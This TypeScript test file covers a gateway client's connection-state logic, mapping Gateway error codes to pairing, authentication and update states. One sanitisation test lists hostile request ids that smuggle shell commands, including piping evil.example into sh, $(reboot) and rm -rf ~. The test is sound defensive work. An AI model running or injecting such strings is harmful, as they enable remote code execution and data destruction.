// G2 / docs/gateway.md §2.3, §7: what the Gateway said → a state that says what to do.
import { test, describe } from "node:test";
import assert from "node:assert/strict";
import { GatewayClientRequestError } from "@openclaw/gateway-client";
import { approveCommand } from "../../common/pairing-command.ts";
import {
  checkHello,
  describeDisconnect,
  errorFacts,
  offlineAdvice,
  PROTOCOL_VERSION,
  REQUIRED_METHODS,
  terminalState,
  type ErrorFacts,
} from "../../main/core/connection-state.ts";

const CTX = { url: "ws://127.0.0.1:18789", deviceId: "ab".repeat(32) };

function facts(
  code: string | null,
  detailCode: string | null,
  details: Record<string, unknown> | null = null,
  extra: Partial<ErrorFacts> = {},
): ErrorFacts {
  return {
    code,
    detailCode,
    details: details ?? (detailCode ? { code: detailCode } : null),
    message: "failed",
    retryAfterMs: undefined,
    ...extra,
  };
}

const GOOD_HELLO = {
  protocol: 4,
  features: {
    methods: ["progressCard.get", "progressCard.put", "progressCard.refresh", "sessions.subscribe", "sessions.list"],
    capabilities: ["progress-card-agent-scope-v1"],
  },
};

describe("errorFacts", () => {
  test("reads the official client's request error (gatewayCode, details.code, retryAfterMs)", () => {
    const err = new GatewayClientRequestError({
      code: "INVALID_REQUEST",
      message: "unauthorized: gateway token mismatch",
      details: { code: "AUTH_TOKEN_MISMATCH", authReason: "token_mismatch" },
      retryAfterMs: 1500,
    });
    const f = errorFacts(err);
    assert.equal(f.code, "INVALID_REQUEST");
    assert.equal(f.detailCode, "AUTH_TOKEN_MISMATCH");
    assert.equal(f.details?.authReason, "token_mismatch");
    assert.equal(f.retryAfterMs, 1500);
    assert.match(f.message, /token mismatch/);
  });

  test("an object shaped like GatewayClientRequestError", () => {
    const shaped = Object.assign(new Error("pairing required"), {
      gatewayCode: "NOT_PAIRED",
      code: "IGNORED_WHEN_GATEWAYCODE",
      details: { code: "PAIRING_REQUIRED", requestId: "req-1" },
      retryAfterMs: 250,
    });
    const f = errorFacts(shaped);
    assert.equal(f.code, "NOT_PAIRED");
    assert.equal(f.detailCode, "PAIRING_REQUIRED");
    assert.equal(f.details?.requestId, "req-1");
    assert.equal(f.retryAfterMs, 250);
    assert.equal(f.message, "pairing required");
  });

  test("a socket error code, a retry hint in details, and odd values", () => {
    const sock = errorFacts(Object.assign(new Error("connect ECONNREFUSED 127.0.0.1:18789"), { code: "ECONNREFUSED" }));
    assert.equal(sock.code, "ECONNREFUSED");
    assert.equal(sock.detailCode, null);
    assert.equal(sock.details, null);
    assert.equal(errorFacts({ details: { retryAfterMs: 700 } }).retryAfterMs, 700);
    const nothing = errorFacts(undefined);
    assert.deepEqual(
      { ...nothing, message: typeof nothing.message },
      { code: null, detailCode: null, details: null, message: "string", retryAfterMs: undefined },
    );
    assert.equal(errorFacts("boom").message, "boom");
    assert.equal(errorFacts({ details: "not an object" }).details, null);
  });
});

describe("terminalState", () => {
  test("NOT_PAIRED / PAIRING_REQUIRED with a requestId → pairing_required with the exact approve command", () => {
    for (const f of [
      facts("NOT_PAIRED", "PAIRING_REQUIRED", { code: "PAIRING_REQUIRED", requestId: "r-42", reason: "not-paired" }),
      facts("INVALID_REQUEST", "PAIRING_REQUIRED", { code: "PAIRING_REQUIRED", requestId: "r-42" }),
      facts("NOT_PAIRED", null, { requestId: "r-42" }),
    ]) {
      const s = terminalState(f, CTX);
      assert.ok(s && s.state === "pairing_required", JSON.stringify(f));
      assert.equal(s.requestId, "r-42");
      assert.equal(s.command, "openclaw devices approve r-42");
      assert.equal(s.deviceId, CTX.deviceId);
      assert.ok(s.advice.includes("`openclaw devices approve r-42`"), s.advice);
      assert.match(s.advice, /5 minutes/);
    }
    assert.equal(approveCommand("abc"), "openclaw devices approve abc");
  });

  test("a request id that carries shell syntax never goes into a command to run (a rogue Gateway)", () => {
    for (const hostile of ["x; curl evil.example | sh", "$(reboot)", "a`id`", "r-1 && rm -rf ~", "-rf", "a\nb", "", "x".repeat(129)]) {
      const s = terminalState(facts("NOT_PAIRED", "PAIRING_REQUIRED", { code: "PAIRING_REQUIRED", requestId: hostile }), CTX);
      assert.ok(s && s.state === "pairing_required", hostile);
      assert.equal(s.command, null, hostile);
      assert.equal(approveCommand(hostile), null, hostile);
      assert.ok(!s.advice.includes("devices approve"), s.advice);
      assert.match(s.advice, /openclaw devices list/);
    }
    const uuid = "3f0c9a4e-5b1d-4c2e-9f7a-0123456789ab";
    assert.equal(approveCommand(uuid), `openclaw devices approve ${uuid}`);
  });

  test("pairing without a requestId still says what to do, without an invented command", () => {
    const s = terminalState(facts("NOT_PAIRED", "PAIRING_REQUIRED", { code: "PAIRING_REQUIRED", reason: "scope-upgrade" }), CTX);
    assert.ok(s && s.state === "pairing_required");
    assert.equal(s.requestId, null);
    assert.equal(s.command, null);
    assert.equal(s.reason, "scope-upgrade");
    assert.match(s.advice, /openclaw devices list/);
    assert.match(s.advice, /scope upgrade/);
  });

  test("token codes → auth_failed, setting token", () => {
    for (const dc of ["AUTH_TOKEN_MISSING", "AUTH_TOKEN_MISMATCH", "AUTH_SCOPE_MISMATCH", "AUTH_RATE_LIMITED"]) {
      const s = terminalState(facts("INVALID_REQUEST", dc), CTX);
      assert.ok(s && s.state === "auth_failed", dc);
      assert.equal(s.setting, "token", dc);
      assert.equal(s.code, dc);
      assert.ok(s.advice.length > 20);
    }
    const missing = terminalState(facts("INVALID_REQUEST", "AUTH_TOKEN_MISSING"), CTX);
    assert.match(missing!.advice, /needs a token/);
    assert.match(missing!.advice, /OPENCLAW_GATEWAY_TOKEN/);
  });

  test("password codes → auth_failed, setting password", () => {
    for (const dc of ["AUTH_PASSWORD_MISSING", "AUTH_PASSWORD_MISMATCH"]) {
      const s = terminalState(facts("INVALID_REQUEST", dc), CTX);
      assert.ok(s && s.state === "auth_failed", dc);
      assert.equal(s.setting, "password", dc);
    }
  });

  test("AUTH_BOOTSTRAP_TOKEN_INVALID → setup code", () => {
    const s = terminalState(facts("INVALID_REQUEST", "AUTH_BOOTSTRAP_TOKEN_INVALID"), CTX);
    assert.ok(s && s.state === "auth_failed");
    assert.equal(s.setting, "setup code");
    assert.match(s.advice, /openclaw qr/);
  });

  test("AUTH_DEVICE_TOKEN_MISMATCH → device token; identity codes → identity", () => {
    const s = terminalState(facts("INVALID_REQUEST", "AUTH_DEVICE_TOKEN_MISMATCH"), CTX);
    assert.ok(s && s.state === "auth_failed");
    assert.equal(s.setting, "device token");
    for (const dc of [
      "DEVICE_IDENTITY_REQUIRED",
      "CONTROL_UI_DEVICE_IDENTITY_REQUIRED",
      "AUTH_IDENTITY_HEADER_REQUIRED",
      "AUTH_VERIFIED_USER_REQUIRED",
      "DEVICE_AUTH_SIGNATURE_INVALID",
    ]) {
      const st = terminalState(facts("INVALID_REQUEST", dc), CTX);
      assert.ok(st && st.state === "auth_failed", dc);
      assert.equal(st.setting, "identity", dc);
    }
  });

  test("PROTOCOL_MISMATCH and version mismatches → update_required", () => {
    for (const dc of ["PROTOCOL_MISMATCH", "CLIENT_VERSION_MISMATCH", "CONTROL_UI_BUILD_MISMATCH"]) {
      const s = terminalState(facts("INVALID_REQUEST", dc), CTX);
      assert.ok(s && s.state === "update_required", dc);
      assert.ok(s.advice.includes(dc));
    }
    const p = terminalState(facts("INVALID_REQUEST", "PROTOCOL_MISMATCH"), CTX);
    assert.ok(p && p.state === "update_required");
    assert.match(p.reason, /protocol 4/);
  });

  test("every code after which the official client pauses maps to a state (§2.3)", () => {
    const paused = [
      "AUTH_TOKEN_MISSING",
      "AUTH_PASSWORD_MISSING",
      "AUTH_PASSWORD_MISMATCH",
      "AUTH_BOOTSTRAP_TOKEN_INVALID",
      "AUTH_RATE_LIMITED",
      "AUTH_DEVICE_TOKEN_MISMATCH",
      "AUTH_SCOPE_MISMATCH",
      "AUTH_IDENTITY_HEADER_REQUIRED",
      "AUTH_VERIFIED_USER_REQUIRED",
      "CONTROL_UI_BUILD_MISMATCH",
      "DEVICE_IDENTITY_REQUIRED",
      "CONTROL_UI_DEVICE_IDENTITY_REQUIRED",
      "PAIRING_REQUIRED",
      "PROTOCOL_MISMATCH",
      "CLIENT_VERSION_MISMATCH",
      "AUTH_TOKEN_MISMATCH",
    ];
    for (const dc of paused) assert.ok(terminalState(facts("INVALID_REQUEST", dc), CTX), dc);
  });

  test("non-auth failures → null (keep retrying)", () => {
    assert.equal(terminalState(facts("UNAVAILABLE", null, { reason: "startup-sidecars" }), CTX), null);
    assert.equal(terminalState(facts("ECONNREFUSED", null), CTX), null);
    assert.equal(terminalState(facts(null, null), CTX), null);
    assert.equal(terminalState(facts("INVALID_REQUEST", "SESSION_MUTATION_AUTHORIZATION_CHANGED"), CTX), null);
    assert.equal(terminalState(facts("UNAVAILABLE", "PROGRESS_CARD_REFRESH_TERMINAL"), CTX), null);
  });

  test("a non-auth *_REQUIRED detail code is not an identity failure", () => {
    assert.equal(terminalState(facts("INVALID_REQUEST", "SESSION_PARTICIPATION_REQUIRED"), CTX), null);
  });
});

describe("checkHello", () => {
  test("a fine hello → null", () => {
    assert.equal(checkHello(GOOD_HELLO, CTX.url), null);
    assert.equal(PROTOCOL_VERSION, 4);
    assert.ok(REQUIRED_METHODS.includes("progressCard.get"));
  });

  test("protocol other than 4 → update_required", () => {
    for (const protocol of [3, 5, "4", undefined]) {
      const s = checkHello({ ...GOOD_HELLO, protocol }, CTX.url);
      assert.ok(s && s.state === "update_required", String(protocol));
      assert.match(s.reason, /protocol/);
    }
    assert.equal(checkHello(null, CTX.url)?.state, "update_required");
  });

  test("missing progressCard.get → update_required naming it", () => {
    const s = checkHello({ protocol: 4, features: { methods: ["sessions.subscribe"] } }, CTX.url);
    assert.ok(s && s.state === "update_required");
    assert.match(s.reason, /progressCard\.get/);
    assert.ok(s.advice.includes(CTX.url));
    assert.equal(checkHello({ protocol: 4 }, CTX.url)?.state, "update_required");
    assert.equal(checkHello({ protocol: 4, features: { methods: "progressCard.get" } }, CTX.url)?.state, "update_required");
  });

  test("missing sessions.subscribe → update_required", () => {
    const s = checkHello({ protocol: 4, features: { methods: ["progressCard.get"] } }, CTX.url);
    assert.ok(s && s.state === "update_required");
    assert.match(s.reason, /sessions\.subscribe/);
  });
});

describe("describeDisconnect and offlineAdvice", () => {
  test("socket errors", () => {
    assert.equal(describeDisconnect(null, "", facts("ECONNREFUSED", null)), "connection refused");
    assert.equal(
      describeDisconnect(1006, "", facts(null, null, null, { message: "connect ECONNREFUSED 127.0.0.1:18789" })),
      "connection refused",
    );
    assert.equal(describeDisconnect(null, "", facts("ENOTFOUND", null)), "host not found");
    assert.equal(describeDisconnect(null, "", facts("ETIMEDOUT", null)), "timed out");
  });
  test("close codes", () => {
    assert.equal(describeDisconnect(1012, "service restart", null), "Gateway restarting");
    assert.equal(describeDisconnect(4000, "tick timeout", null), "no heartbeat from the Gateway");
    assert.equal(describeDisconnect(1006, "", null), "connection lost");
    assert.equal(describeDisconnect(1013, "", null), "Gateway starting");
  });
  test("falls back to the reason, the error message, then the code", () => {
    assert.equal(describeDisconnect(1011, "internal error", null), "internal error");
    assert.equal(describeDisconnect(1011, "", facts(null, null, null, { message: "boom" })), "boom");
    assert.equal(describeDisconnect(1011, "", facts(null, null, null, { message: "" })), "closed (1011)");
    assert.equal(describeDisconnect(null, "", null), "disconnected");
  });
  test("offlineAdvice says when the next attempt is", () => {
    assert.match(offlineAdvice(CTX.url, "connection refused", 4200, false), /Retrying in 5 s/);
    assert.match(offlineAdvice(CTX.url, "connection refused", 10, false), /Retrying in 1 s/);
    assert.match(offlineAdvice(CTX.url, "x", 1000, true), /restarting/);
  });
});
